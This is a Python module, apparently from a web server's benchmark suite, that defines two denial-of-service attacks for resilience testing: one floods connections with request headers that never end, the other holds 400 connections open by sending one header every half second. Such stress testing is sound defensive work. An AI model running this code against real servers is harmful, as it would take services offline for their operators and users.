"""Requests whose headers never end."""

from __future__ import annotations

import asyncio

from benchmarks._attacks.attack import Attack, Target, addresses

BLOCK = b"".join(b"x-%d: %s\r\n" % (number, b"a" * 100) for number in range(600))
ENDLESS = 8
SLOW = 400
"""Connections."""


async def endless(target: Target) -> None:
    """As fast as the server reads."""

    async def one(address: str) -> None:
        while not target.is_over():
            async with target.connection(address) as (_, writer):
                writer.write(b"GET / HTTP/1.1\r\nhost: %s\r\n" % target.host.encode())
                while not target.is_over():
                    writer.write(BLOCK)
                    await writer.drain()
                    target.counts["headers"] += 600
            await asyncio.sleep(0.05)

    await asyncio.gather(*map(one, addresses(ENDLESS)))


async def slow(target: Target) -> None:
    """A header every half second, on many connections of many addresses."""

    async def one(address: str) -> None:
        while not target.is_over():
            async with target.connection(address) as (reader, writer):
                writer.write(b"GET / HTTP/1.1\r\nhost: %s\r\n" % target.host.encode())
                while not target.is_over() and not reader.at_eof():
                    writer.write(b"x: y\r\n")
                    await writer.drain()
                    await asyncio.sleep(0.5)
            await asyncio.sleep(0.5)

    await asyncio.gather(*(one(address) for address in addresses(20) for _ in range(SLOW // 20)))


ATTACKS = (
    Attack("endless-headers", "8 connections that send headers without end", endless),
    Attack("slow-headers", f"{SLOW} connections of 20 addresses, a header every 0.5 s", slow),
)
